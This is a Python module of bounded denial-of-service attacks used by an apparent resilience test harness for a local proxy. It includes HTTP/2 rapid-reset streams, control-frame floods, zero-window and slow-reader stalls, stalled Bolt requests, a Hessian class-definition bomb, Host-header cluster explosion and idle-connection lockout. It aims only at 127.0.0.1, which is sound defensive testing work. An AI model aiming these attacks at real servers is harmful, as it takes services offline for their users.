"""The attackers `attack.py` runs: raw sockets and hand-made frames, each bounded.

Every attack takes a `Target` (its doors) and a size, and returns how many requests it
made and how the target cut it off (or that it did not), as text for the table. HTTP/2
frames are built with `hyperframe` and `hpack`; Bolt frames with the project's codec.
"""

from __future__ import annotations

import re
import signal
import socket
import struct
import threading
import time
from dataclasses import dataclass

import hpack
from attack_targets import (
    BOLT_IFACE,
    BOLT_VERSION,
    H1_SERVICE,
    H2_SERVICE,
    PAIR_SERVICE,
    PER_TRY_TIMEOUT,
    Target,
)
from hyperframe.frame import (
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY, RST_STREAM, DATA, PING = 0x7, 0x3, 0x0, 0x6
H2_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
            7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}  # fmt: skip
GONE = (ConnectionError, BrokenPipeError, TimeoutError, OSError)


@dataclass
class Outcome:
    requests: int  # requests the attack asked for (the denominator of amplification)
    cutoff: str


class Frames:
    """Reads HTTP/2 frames as they come: the GOAWAY, resets and DATA bytes seen."""

    def __init__(self) -> None:
        self.buf = b""
        self.goaway: tuple[int, int] | None = None  # (last stream id, code)
        self.resets: dict[int, int] = {}
        self.data = self.pings = 0

    def feed(self, data: bytes) -> None:
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, sid = self.buf[3], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload, self.buf = self.buf[9 : 9 + length], self.buf[9 + length :]
            if kind == GOAWAY:
                self.goaway = (
                    int.from_bytes(payload[:4], "big"),
                    int.from_bytes(payload[4:8], "big"),
                )
            elif kind == RST_STREAM:
                self.resets[sid] = int.from_bytes(payload[:4], "big")
            elif kind == DATA:
                self.data += length
            elif kind == PING:
                self.pings += 1

    def drain(self, sock: socket.socket, wait: float) -> bool:
        """Read what has arrived within `wait` s; False once the peer closed or reset."""
        sock.settimeout(wait)
        try:
            while chunk := sock.recv(1 << 20):
                self.feed(chunk)
                sock.settimeout(0.01)
            return False
        except TimeoutError:
            return True
        except OSError:
            return False

    def said(self) -> str:
        if self.goaway:
            return f"GOAWAY({H2_CODES.get(self.goaway[1], self.goaway[1])}, last stream {self.goaway[0]})"
        return ""


def connect(port: int, rcvbuf: int = 0) -> socket.socket:
    sock = socket.socket()
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(5)
    sock.connect(("127.0.0.1", port))
    return sock


def request_headers(enc: hpack.Encoder, path: str = "/") -> bytes:
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                       (":authority", H2_SERVICE)])  # fmt: skip


def rapid_reset(t: Target, streams: int) -> Outcome:
    """Open-then-reset `streams` streams, 100 a write, each write followed by a PING whose
    ACK says the target read it (so no write lands after its GOAWAY and loses it)."""
    sock, enc, seen, started = connect(t.h2), hpack.Encoder(), Frames(), time.monotonic()
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    sent, open_ = 0, True
    while sent < streams and open_ and not seen.goaway:
        batch = []
        for _ in range(100):
            sid = 2 * sent + 1
            batch.append(
                HeadersFrame(
                    sid, request_headers(enc), flags=["END_HEADERS", "END_STREAM"]
                ).serialize()
            )
            batch.append(RstStreamFrame(sid, error_code=8).serialize())
            sent += 1
        pings = seen.pings
        try:
            sock.sendall(b"".join(batch) + PingFrame(0, opaque_data=b"8bytes!!").serialize())
        except GONE:
            break
        deadline = time.monotonic() + 10
        while open_ and seen.pings == pings and not seen.goaway and time.monotonic() < deadline:
            open_ = seen.drain(sock, 0.5)
    took = time.monotonic() - started
    open_ = open_ and seen.drain(sock, 0.3)
    sock.close()
    how = seen.said() or ("connection closed" if not open_ else "none")
    return Outcome(sent, f"{how} after {sent:,} streams, {took:.1f} s")


FLOOD_FRAMES = {
    "ping": PingFrame(0, opaque_data=b"12345678").serialize(),
    "settings": SettingsFrame(0, settings={0x4: 65535}).serialize(),
    "window_update": WindowUpdateFrame(0, window_increment=1).serialize(),
}


def flood(t: Target, kind: str, frames: int, seconds: float) -> Outcome:
    """`frames` copies of one control frame, 1,000 a write, never reading (at most
    `seconds`); then what the target said, read from what it left in our buffer."""
    sock, frame, sent = connect(t.h2, rcvbuf=65536), FLOOD_FRAMES[kind], 0
    started, how = time.monotonic(), ""
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    sock.settimeout(2)
    try:
        while sent < frames and time.monotonic() - started < seconds:
            sock.sendall(frame * 1000)
            sent += 1000
    except TimeoutError:
        how = "stopped reading"
    except GONE as e:
        how = type(e).__name__
    took = time.monotonic() - started
    seen = Frames()
    open_ = seen.drain(sock, 0.5)
    sock.close()
    how = seen.said() or how or ("connection closed" if not open_ else "none")
    return Outcome(0, f"{how} after {sent:,} frames, {took:.1f} s")


def http_get(path: str, host: str = H1_SERVICE) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


def slow_readers(t: Target, conns: int, hold: float) -> Outcome:
    """`conns` HTTP/1.1 clients ask for a large response and read none of it for `hold` s;
    then each drains: a response cut short means the target cut the reader off."""
    socks = [connect(t.h1, rcvbuf=4096) for _ in range(conns)]
    for s in socks:
        s.sendall(http_get("/big"))
    time.sleep(hold)
    cut = 0
    for s in socks:
        got = 0
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)  # drain in large reads
        s.settimeout(2)
        try:
            while chunk := s.recv(1 << 20):
                got += len(chunk)
                if got > 10 * 1024 * 1024:
                    break
        except GONE:
            pass
        cut += got < 10 * 1024 * 1024
        s.close()
    return Outcome(conns, f"{cut} of {conns} cut off after {hold:.0f} s unread")


def zero_window(t: Target, streams: int, hold: float) -> Outcome:
    """One HTTP/2 connection, initial stream window 0, `streams` requests for a large
    response; holds `hold` s, reading frames (which carry no DATA while windows are 0)."""
    sock, enc, seen = connect(t.h2), hpack.Encoder(), Frames()
    frames = [PREFACE, SettingsFrame(0, settings={0x4: 0}).serialize()]
    for i in range(streams):
        frames.append(
            HeadersFrame(
                2 * i + 1, request_headers(enc, "/big"), flags=["END_HEADERS", "END_STREAM"]
            ).serialize()
        )
    sock.sendall(b"".join(frames))
    sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
    deadline, open_ = time.monotonic() + hold, True
    while open_ and time.monotonic() < deadline and not seen.goaway:
        open_ = seen.drain(sock, 0.5)
    sock.close()
    how = seen.said() or (f"{len(seen.resets)} streams reset" if seen.resets else "")
    return Outcome(streams, (how or ("closed" if not open_ else "none")) + f" within {hold:.0f} s")


_BOLT_RESPONSE = struct.Struct(">BBHBiBHhhi")


def bolt_frame(rid: int, body: bytes, service: str) -> bytes:
    from sofamesh.codecs.bolt import encode, request

    return encode(request(rid, body, headers={"service": service}))


def echo_call(rid: int, definitions: int = 0) -> bytes:
    """echo("hi") as sofa-rpc-node writes it (no method header), after `definitions` legal
    but useless Hessian 2 class definitions."""
    from sofamesh.codecs.bolt.sofarpc import SofaRequest, encode_request

    service = f"{BOLT_IFACE}:{BOLT_VERSION}"
    req = SofaRequest("echo", ["java.lang.String"], service, None, {})
    return bolt_frame(rid, b"C\x01a\x91\x01b" * definitions + encode_request(req, ["hi"]), service)


def bolt_status(sock: socket.socket, timeout: float) -> int | None:
    """The response status of the next Bolt response, or None if none came."""
    sock.settimeout(timeout)
    buf = b""
    try:
        while len(buf) < _BOLT_RESPONSE.size:
            chunk = sock.recv(65536)
            if not chunk:
                return None
            buf += chunk
    except GONE:
        return None
    return int(_BOLT_RESPONSE.unpack(buf[: _BOLT_RESPONSE.size])[6])


def stalled_bolt(t: Target, conns: int, size: int, hold: float) -> Outcome:
    """`conns` Bolt requests of `size`-byte bodies, each stopped one byte short, for `hold` s;
    then whether each connection is still open."""
    frame = bolt_frame(1, b"\0" * size, f"{BOLT_IFACE}:{BOLT_VERSION}")[:-1]
    socks, stalled = [], 0
    for _ in range(conns):
        s = connect(t.bolt)
        try:
            s.sendall(frame)
        except TimeoutError:
            stalled += 1
        except GONE:
            pass
        socks.append(s)
    time.sleep(hold)
    closed = 0
    for s in socks:
        s.settimeout(0.2)
        try:
            closed += s.recv(65536) == b""
        except TimeoutError:
            pass
        except GONE:
            closed += 1
        s.close()
    note = f"; {stalled} writes blocked" if stalled else ""
    return Outcome(0, f"{closed} of {conns} closed after {hold:.0f} s{note}")


def peek_bomb(t: Target, definitions: int) -> Outcome:
    """A request whose body opens with `definitions` class definitions, and a plain call
    on another connection right behind it: when each is answered."""
    bomb, plain = connect(t.bolt), connect(t.bolt)
    frame = echo_call(1, definitions)
    started = time.monotonic()
    bomb.sendall(frame)
    plain.sendall(echo_call(1))
    plain_status = bolt_status(plain, 60)
    plain_s = time.monotonic() - started
    bomb_status = bolt_status(bomb, 60)
    bomb_s = time.monotonic() - started
    bomb.close()
    plain.close()
    return Outcome(0, f"bomb ({len(frame) / 2**20:.0f} MiB) answered status {bomb_status} "
                      f"in {bomb_s:.2f} s; call behind it {plain_status} in {plain_s:.2f} s")  # fmt: skip


def cluster_explosion(t: Target, names: int, idle: float) -> Outcome:
    """`names` requests, each naming a new made-up service in `Host`, on keep-alive
    connections; then the Prometheus page's size and the process's CPU over `idle` s."""
    from netutil import cpu_seconds

    lines_before = t.prometheus_lines()
    statuses: dict[int, int] = {}
    sock, buf = connect(t.h1), b""
    for i in range(names):
        sock.sendall(http_get("/", f"made-up-{i}.example"))
        while b"\r\n\r\n" not in buf:
            buf += sock.recv(65536)
        head, buf = buf.split(b"\r\n\r\n", 1)
        length = int(next((ln.split(b":")[1] for ln in head.split(b"\r\n")
                           if ln.lower().startswith(b"content-length")), b"0"))  # fmt: skip
        while len(buf) < length:
            buf += sock.recv(65536)
        buf = buf[length:]
        status = int(head.split(b" ", 2)[1])
        statuses[status] = statuses.get(status, 0) + 1
    sock.close()
    time.sleep(idle / 4)  # the last requests' work done before CPU is counted
    cpu = cpu_seconds(t.proc.pid)
    time.sleep(idle)
    idle_cpu = (cpu_seconds(t.proc.pid) - cpu) / idle * 100  # the probe's calls included
    answered = ", ".join(f"{n} x {s}" for s, n in sorted(statuses.items()))
    lines = t.prometheus_lines()
    return Outcome(names, f"answered {answered}; /stats/prometheus {lines_before:,} -> {lines:,} "
                          f"lines; idle CPU after {idle_cpu:.0f} %")  # fmt: skip


def idle_lockout(t: Target, conns: int, probes: int = 15) -> Outcome:
    """`conns` connections opened as fast as possible and left idle; then how many of
    `probes` fresh clients are served (2 s each)."""
    started, idle = time.monotonic(), []
    for _ in range(conns):
        try:
            idle.append(socket.create_connection(("127.0.0.1", t.h1), timeout=2))
        except OSError:
            break
    took = time.monotonic() - started
    served = 0
    for _ in range(probes):
        try:
            s = connect(t.h1)
            s.settimeout(2)
            s.sendall(http_get("/"))
            served += s.recv(65536).startswith(b"HTTP/1.1 200")
            s.close()
        except GONE:
            pass
    for s in idle:
        s.close()
    return Outcome(
        0, f"{len(idle):,} opened in {took:.1f} s; {served} of {probes} fresh clients served"
    )


def frozen_provider(t: Target, before: float, frozen: float, callers: int = 4) -> Outcome:
    """Steady calls to the two providers of `PAIR_SERVICE` (`callers` keep-alive clients,
    one call each after another, 5 s client timeout); after `before` s one provider is
    SIGSTOPped for `frozen` s. Counted after the stop: calls made, failed calls, calls that
    took a per-try timeout or more (they waited on the frozen one), and the time from the
    stop to the last call that touched it (slow or failed): how long callers felt it."""
    assert t.pair is not None, "the target has no second provider"
    calls: list[tuple[float, float, bool]] = []  # (started, seconds, ok)
    stop = threading.Event()

    def caller() -> None:
        sock: socket.socket | None = None
        while not stop.is_set():
            started = time.monotonic()
            try:
                sock = sock or socket.create_connection(("127.0.0.1", t.h1), timeout=5)
                sock.sendall(http_get("/pair", PAIR_SERVICE))
                ok = _read_response(sock).startswith(b"HTTP/1.1 200")
            except OSError:
                ok = False
            if not ok and sock is not None:
                sock.close()
                sock = None
            calls.append((started, time.monotonic() - started, ok))
        if sock is not None:
            sock.close()

    threads = [threading.Thread(target=caller, daemon=True) for _ in range(callers)]
    for th in threads:
        th.start()
    time.sleep(before)
    stopped = time.monotonic()
    t.pair.send_signal(signal.SIGSTOP)
    try:
        time.sleep(frozen)
    finally:
        t.pair.send_signal(signal.SIGCONT)
        stop.set()
        for th in threads:
            th.join()
    return Outcome(0, _frozen_summary(calls, stopped, frozen))


def _read_response(sock: socket.socket) -> bytes:
    """One response with a Content-Length body (the upstream's and both proxies' answers)."""
    got = b""
    while b"\r\n\r\n" not in got:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed")
        got += chunk
    head, _, body = got.partition(b"\r\n\r\n")
    length = int(re.search(rb"(?i)content-length:\s*(\d+)", head)[1])  # type: ignore[index]
    while len(body) < length:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed")
        body += chunk
    return head


def _frozen_summary(calls: list[tuple[float, float, bool]], stopped: float, frozen: float) -> str:
    after = [(s, d, ok) for s, d, ok in calls if s + d >= stopped]
    slow_at = PER_TRY_TIMEOUT  # a call this slow waited a try out on the frozen one
    failed = sum(1 for _s, _d, ok in after if not ok)
    slow = [s + d for s, d, ok in after if ok and d >= slow_at]
    hurt = [s + d for s, d, ok in after if not ok or d >= slow_at]
    felt = f"{max(hurt) - stopped:.1f} s" if hurt else "0 s"
    when = ", ".join(f"{end - stopped:.1f}" for end in sorted(hurt)[:8])
    return (
        f"{len(after)} calls in {frozen:.0f} s frozen: {failed} failed, {len(slow)} slower than "
        f"{slow_at:.2f} s (ending at {when or '-'} s); the last {felt} after the stop"
    )
